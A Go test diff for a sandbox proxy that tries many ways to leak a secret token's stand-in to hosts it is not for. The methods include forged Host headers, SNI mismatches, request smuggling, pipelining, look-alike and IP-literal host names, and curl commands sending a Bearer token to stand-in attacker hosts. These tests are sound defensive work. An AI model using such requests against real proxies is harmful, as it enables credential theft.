@@ -84,6 +84,9 @@ func startOrigins(t *testing.T, plain, tls []string) *origins {
 	handler := func(name string) http.Handler {
 		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 			dump, _ := httputil.DumpRequest(r, true)
+			for k, vs := range r.Trailer {
+				dump = fmt.Appendf(dump, "\ntrailer %s=%s", k, strings.Join(vs, ","))
+			}
 			o.mu.Lock()
 			o.hits = append(o.hits, hit{origin: name, path: r.URL.Path, dump: string(dump)})
 			o.mu.Unlock()
@@ -217,6 +220,7 @@ type attack struct {
 	want   []string // in the command's output
 	nowant []string // not in it
 	reach  []string // the origins that receive it (nil: none)
+	notAt  []string // origins that must not receive it, where reach is not told
 }
 
 // runAttacks runs the rows in one sandbox of args, and checks each, and
@@ -233,8 +237,8 @@ func runAttacks(t *testing.T, o *origins, args []string, rows []attack) (standIn
 		cmds = append(cmds, a.cmd)
 	}
 	r := runBoxsh(t, ctx, "", append(append([]string{"--sandbox"}, args...), "-c", sections(cmds))...)
-	all := splitSections(t, r.stdout, len(cmds))
 	t.Logf("stderr:\n%s", r.stderr)
+	all := splitSections(t, r.stdout, len(cmds))
 	require.Equal(t, "installed", all[0])
 	standIns = strings.Fields(all[1])
 	require.Len(t, standIns, 3, "the stand-ins: %q", all[1])
@@ -245,13 +249,18 @@ func runAttacks(t *testing.T, o *origins, args []string, rows []attack) (standIn
 	}
 	out = all[2:]
 	for i, a := range rows {
+		first, _, _ := strings.Cut(strings.TrimPrefix(out[i], "issuer=boxsh\n"), "\n")
+		t.Logf("%s: %.100s", a.name, first)
 		for _, w := range a.want {
 			assert.Contains(t, out[i], fill.Replace(w), "%s: its output", a.name)
 		}
 		for _, w := range a.nowant {
 			assert.NotContains(t, out[i], fill.Replace(w), "%s: its output", a.name)
 		}
-		if a.path != "" {
+		for _, at := range o.at(fill.Replace(a.path)) {
+			assert.NotContains(t, a.notAt, at, "%s: reached; its output:\n%s", a.name, out[i])
+		}
+		if a.path != "" && a.notAt == nil {
 			assert.Equal(t, a.reach, o.at(fill.Replace(a.path)), "%s: the origins it reached; its output:\n%s", a.name, out[i])
 		}
 	}
@@ -328,4 +337,115 @@ func TestSecretEscapeEcho(t *testing.T) {
 
 	// The documented limit: an origin that echoes Authorization.
 	assert.Contains(t, readDoc(t, "security.md"), "an API that\nechoes its `Authorization` header would show the value")
+}
+
+// httpReq is a plain HTTP proxy request for url (absolute form) with the
+// extra header lines (each ending in CRLF) and body.
+func httpReq(method, url, extra, body string) string {
+	h := method + " " + url + " HTTP/1.1\r\n" + extra
+	if body != "" {
+		h += fmt.Sprintf("Content-Length: %d\r\n", len(body))
+	}
+	return h + "Connection: close\r\n\r\n" + body
+}
+
+// The attacks' secrets and origins: GH_TOKEN for api.example.com (HTTP)
+// and example.com (HTTPS), WILD_TOKEN for *.wild.example, PORT_TOKEN for
+// port.example on its origin's port only; every other origin is an
+// allowed host the values are not for.
+var (
+	attackPlain = []string{"api.example.com", "evil.example", "api.example.com.attacker.test", "a.wild.example", "evil.wild.example.attacker.test", "wild.example", "port.example"}
+	attackTLS   = []string{"example.com", "evil.test"}
+)
+
+// attackArgs are the flags of the attacks' sandbox.
+func attackArgs(o *origins) []string {
+	args := []string{
+		"--secret", "GH_TOKEN=api.example.com,example.com", "--secret", "WILD_TOKEN=*.wild.example",
+		"--secret", "PORT_TOKEN=port.example:" + o.port("port.example"), "--ca-file", o.pem,
+	}
+	for _, h := range []string{"evil.example", "api.example.com.attacker.test", "evil.wild.example.attacker.test", "wild.example", "port.example", "evil.test", "127.0.0.1"} {
+		args = append(args, "--allow-domain", h)
+	}
+	return args
+}
+
+// attackWhere are the origins each value may reach.
+var attackWhere = map[string][]string{ghValue: {"api.example.com", "example.com"}, wildValue: {"a.wild.example"}, portValue: {"port.example"}}
+
+// TestSecretEscapeRedirect is the family of attacks that try to send a
+// value to a host it is not for: Host headers, server names, request
+// lines in a terminated tunnel, pipelining, smuggling, upgrades,
+// trailers, host name forms, IP literals, ports, names the transparent
+// path resolves. The value reaches only its own hosts.
+func TestSecretEscapeRedirect(t *testing.T) {
+	requireRootless(t)
+	o := startOrigins(t, attackPlain, attackTLS)
+	p, ep, tp, etp := o.port("api.example.com"), o.port("evil.example"), o.port("example.com"), o.port("evil.test")
+	pp := o.port("port.example")
+	api, evil := "http://api.example.com:"+p, "http://evil.example:"+ep
+	bearer := "Authorization: Bearer {S}\r\n"
+	refused := []string{"403", "carries the stand-in of secret GH_TOKEN"}
+	rows := []attack{
+		// An absolute-form request to evil with the secret host's Host header.
+		{name: "Host header of the secret host", cmd: plainAttack(httpReq("GET", evil+"/r1", "Host: api.example.com\r\n"+bearer, "")), path: "/r1", want: refused},
+		// A request to the secret host with evil's Host header: the value goes to the host dialed, the secret's.
+		{name: "Host header of evil", cmd: plainAttack(httpReq("GET", api+"/r2", "Host: evil.example:"+ep+"\r\n"+bearer, "")), path: "/r2", want: []string{"origin api.example.com", "Host: api.example.com"}, reach: []string{"api.example.com"}},
+		// CONNECT to the secret host, then TLS with evil's server name.
+		{name: "CONNECT secret, SNI evil", cmd: tunnelAttack("connect", "example.com", tp, "evil.test", httpReq("GET", "/r3", "Host: evil.test\r\n"+bearer, "")), path: "/r3", want: []string{"tls failed"}},
+		// The same over SOCKS5, the transparent path's protocol.
+		{name: "SOCKS secret, SNI evil", cmd: tunnelAttack("socks", "example.com", tp, "evil.test", httpReq("GET", "/r4", "Host: evil.test\r\n"+bearer, "")), path: "/r4", want: []string{"tls failed"}},
+		// CONNECT to evil with the secret host's server name: untouched, so the proxy puts nothing in.
+		{name: "CONNECT evil, SNI secret", cmd: tunnelAttack("connect", "evil.test", etp, "example.com", httpReq("GET", "/r5", "Host: example.com\r\n"+bearer, "")), path: "/r5", want: []string{"issuer=origin", "origin evil.test"}, reach: []string{"evil.test"}},
+		// In a terminated tunnel, an absolute-form request line for evil: it goes to the tunnel's host.
+		{name: "absolute form in the tunnel", cmd: tunnelAttack("connect", "example.com", tp, "example.com", httpReq("GET", "http://evil.test:"+etp+"/r6", "Host: evil.test\r\n"+bearer, "")), path: "/r6", want: []string{"issuer=boxsh", "origin example.com"}, reach: []string{"example.com"}},
+		// No server name at all: the tunnel's host's certificate, the tunnel's host.
+		{name: "no SNI", cmd: tunnelAttack("connect", "example.com", tp, "-", httpReq("GET", "/r7", "Host: evil.test\r\n"+bearer, "")), path: "/r7", want: []string{"issuer=boxsh", "origin example.com"}, reach: []string{"example.com"}},
+		// Two requests on one plain proxy connection, the second to evil with the stand-in: the proxy serves one.
+		{name: "pipelining", cmd: plainAttack("GET " + api + "/r8a HTTP/1.1\r\nHost: api.example.com\r\n\r\n" + httpReq("GET", evil+"/r8", bearer, "")), path: "/r8", want: []string{"origin api.example.com"}, notAt: []string{"evil.example"}},
+		// Pipelining in a terminated tunnel: both go to the tunnel's host.
+		{name: "pipelining in the tunnel", cmd: tunnelAttack("connect", "example.com", tp, "example.com", "GET /r9a HTTP/1.1\r\nHost: example.com\r\n\r\n"+httpReq("GET", "http://evil.test/r9", "Host: evil.test\r\n"+bearer, "")), path: "/r9", want: []string{"origin example.com"}, notAt: []string{"evil.test"}},
+		// Smuggling (Content-Length and Transfer-Encoding) through the plain proxy.
+		{name: "smuggling, plain", cmd: plainAttack("POST " + api + "/r10a HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + httpReq("GET", evil+"/r10", bearer, "")), path: "/r10", notAt: []string{"evil.example"}},
+		// Smuggling in a terminated tunnel.
+		{name: "smuggling in the tunnel", cmd: tunnelAttack("connect", "example.com", tp, "example.com", "POST /r11a HTTP/1.1\r\nHost: example.com\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+httpReq("GET", "http://evil.test/r11", "Host: evil.test\r\n"+bearer, "")), path: "/r11", notAt: []string{"evil.test"}},
+		// An upgrade to evil with the stand-in.
+		{name: "upgrade", cmd: plainAttack(httpReq("GET", evil+"/r12", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"+bearer, "")), path: "/r12", want: refused},
+		// An Authorization trailer to the secret host: trailers get no value.
+		{name: "trailer to the secret host", cmd: plainAttack("POST " + api + "/r13 HTTP/1.1\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\nConnection: close\r\n\r\n1\r\nx\r\n0\r\nAuthorization: Bearer {S}\r\n\r\n"), path: "/r13", notAt: attackTLS},
+		// A wildcard secret's host with a tail: not one of its hosts.
+		{name: "wildcard with a tail", cmd: plainAttack(httpReq("GET", "http://evil.wild.example.attacker.test:"+ep+"/r14", "Authorization: Bearer {W}\r\n", "")), path: "/r14", want: []string{"403", "WILD_TOKEN"}},
+		// The secret host with a tail.
+		{name: "name with a tail", cmd: plainAttack(httpReq("GET", "http://api.example.com.attacker.test:"+ep+"/r15", bearer, "")), path: "/r15", want: refused},
+		// A wildcard does not match its apex.
+		{name: "wildcard apex", cmd: plainAttack(httpReq("GET", "http://wild.example:"+ep+"/r16", "Authorization: Bearer {W}\r\n", "")), path: "/r16", want: []string{"403", "WILD_TOKEN"}},
+		// Case and a trailing dot are the same host: the value goes to it, the right one.
+		{name: "case and trailing dot", cmd: plainAttack(httpReq("GET", "http://A.Wild.Example.:"+ep+"/r17", "Authorization: Bearer {W}\r\n", "")), path: "/r17", want: []string{"origin a.wild.example"}, reach: []string{"a.wild.example"}},
+		// A percent-encoded host name.
+		{name: "percent-encoded host", cmd: plainAttack(httpReq("GET", "http://evil%2Eexample:"+ep+"/r18", "Host: api.example.com\r\n"+bearer, "")), path: "/r18", notAt: []string{"evil.example"}},
+		// An IDN look-alike of the secret host (a Cyrillic "е").
+		{name: "IDN look-alike", cmd: plainAttack(httpReq("GET", "http://api.\u0435xample.com:"+p+"/r19", bearer, "")), path: "/r19", want: []string{"40"}},
+		// Its punycode form.
+		{name: "punycode", cmd: plainAttack(httpReq("GET", "http://api.xn--xample-2of.com:"+p+"/r20", bearer, "")), path: "/r20", want: []string{"403"}},
+		// IP literals of the secret host's address.
+		{name: "IPv4 literal", cmd: plainAttack(httpReq("GET", "http://127.0.0.1:"+p+"/r21", bearer, "")), path: "/r21", want: refused},
+		{name: "IPv4-mapped IPv6 literal", cmd: plainAttack(httpReq("GET", "http://[::ffff:127.0.0.1]:"+p+"/r22", bearer, "")), path: "/r22", want: refused},
+		{name: "decimal IPv4", cmd: plainAttack(httpReq("GET", "http://2130706433:"+p+"/r23", bearer, "")), path: "/r23", want: []string{"403"}},
+		// A secret for one port, used on another of its host.
+		{name: "the secret's port", cmd: plainAttack(httpReq("GET", "http://port.example:"+pp+"/r24", "Authorization: Bearer {P}\r\n", "")), path: "/r24", want: []string{"origin port.example"}, reach: []string{"port.example"}},
+		{name: "another port", cmd: plainAttack(httpReq("GET", "http://port.example:1/r25", "Authorization: Bearer {P}\r\n", "")), path: "/r25", want: []string{"403", "PORT_TOKEN"}},
+		// One secret's stand-in to another secret's host.
+		{name: "another secret's host", cmd: plainAttack(httpReq("GET", api+"/r26", "Authorization: Bearer {W}\r\n", "")), path: "/r26", want: []string{"403", "WILD_TOKEN"}},
+		// The transparent path: evil's name resolved for a connection to the secret host's.
+		{name: "transparent, evil's address for the secret host", cmd: `curl -sSk --max-time 10 --noproxy '*' --connect-to example.com:443:evil.test:443 -H "Authorization: Bearer $GH_TOKEN" https://example.com/r27`, path: "/r27", want: []string{"origin evil.test"}, reach: []string{"evil.test"}},
+		// The transparent path: the secret host's address for evil's name.
+		{name: "transparent, the secret host's address for evil", cmd: `curl -sSk --max-time 10 --noproxy '*' --connect-to evil.test:443:example.com:443 -H "Authorization: Bearer $GH_TOKEN" https://evil.test/r28; echo " rc=$?"`, path: "/r28", want: []string{"rc=35"}},
+	}
+	runAttacks(t, o, attackArgs(o), rows)
+	checkValuesWent(t, o, attackWhere)
+	for _, h := range o.seen() {
+		if h.path == "/r13" {
+			assert.NotContains(t, h.dump, ghValue, "a trailer gets no value")
+		}
+	}
 }
